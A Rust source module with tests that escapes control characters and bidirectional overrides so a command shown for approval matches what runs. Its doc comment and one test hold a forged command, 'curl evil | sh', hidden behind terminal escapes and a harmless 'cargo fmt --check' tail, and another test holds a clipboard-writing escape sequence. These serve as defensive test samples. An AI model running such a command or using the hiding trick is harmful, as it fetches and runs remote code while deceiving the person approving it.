//! Text to be read exactly, with every control character made visible.
//!
//! A command someone is asked to trust must look like what will run:
//! `curl evil | sh #\e[2K\r  hook SessionStart [*]: cargo fmt --check`
//! must not show only its harmless tail. [`visible`] keeps every
//! printable character and writes each control character, each C1
//! control and each bidirectional override as a Rust-style escape, so
//! nothing is hidden and nothing acts on the terminal. This module must
//! not know where the text goes.

use std::borrow::Cow;
use std::fmt::Write as _;

use crate::prose::is_bidi_control;

/// Whether [`visible`] would change `c`: any control character (tab and
/// newline included) or direction override.
pub fn needs_escaping(c: char) -> bool {
    c.is_control() || is_bidi_control(c)
}

/// `text` with every control character and direction override written as
/// an escape: `\t`, `\n`, `\r`, `\e` (ESC), anything else as `\u{..}`.
/// A backslash is printable and shown as it is. Borrowed when nothing
/// needed escaping.
pub fn visible(text: &str) -> Cow<'_, str> {
    if !text.chars().any(needs_escaping) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        push_visible(&mut out, c);
    }
    Cow::Owned(out)
}

/// [`visible`] line by line: newlines stay line breaks, everything else
/// is escaped. For messages etch writes itself that may quote outside
/// text (an error naming a server's reply, a warning naming a path).
pub fn visible_lines(text: &str) -> Cow<'_, str> {
    if !text.chars().any(|c| c != '\n' && needs_escaping(c)) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if c == '\n' {
            out.push('\n');
        } else {
            push_visible(&mut out, c);
        }
    }
    Cow::Owned(out)
}

/// Appends `c` to `out`, escaped when it is a control character or a
/// direction override.
fn push_visible(out: &mut String, c: char) {
    match c {
        '\t' => out.push_str("\\t"),
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\u{1b}' => out.push_str("\\e"),
        c if needs_escaping(c) => {
            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
        }
        c => out.push(c),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The forged hook command of the attack shows whole, harmless tail
    /// and all, with nothing a terminal would act on.
    #[test]
    fn a_forged_command_shows_what_runs() {
        let forged = "curl evil | sh #\u{1b}[2K\r  hook SessionStart [*]: cargo fmt --check";
        let shown = visible(forged);
        assert_eq!(
            shown,
            "curl evil | sh #\\e[2K\\r  hook SessionStart [*]: cargo fmt --check"
        );
        assert!(!shown.chars().any(char::is_control));
    }

    /// Each kind of invisible or acting character gets an escape.
    #[test]
    fn every_control_is_escaped() {
        assert_eq!(visible("a\tb\nc"), "a\\tb\\nc");
        assert_eq!(visible("x\u{7}y\u{7f}z"), "x\\u{7}y\\u{7f}z");
        assert_eq!(visible("x\u{9b}2K"), "x\\u{9b}2K");
        assert_eq!(visible("abc\u{202e}fed"), "abc\\u{202e}fed");
        assert_eq!(visible("C:\\path"), "C:\\path");
    }

    /// Plain text is not copied.
    #[test]
    fn plain_text_is_borrowed() {
        assert!(matches!(visible("cargo fmt --check"), Cow::Borrowed(_)));
        assert!(matches!(visible_lines("one\ntwo"), Cow::Borrowed(_)));
    }

    /// Line breaks stay line breaks; the rest is escaped.
    #[test]
    fn visible_lines_keeps_newlines() {
        assert_eq!(
            visible_lines("error: server said\n\u{1b}]52;c;aGk=\u{7}"),
            "error: server said\n\\e]52;c;aGk=\\u{7}"
        );
    }
}
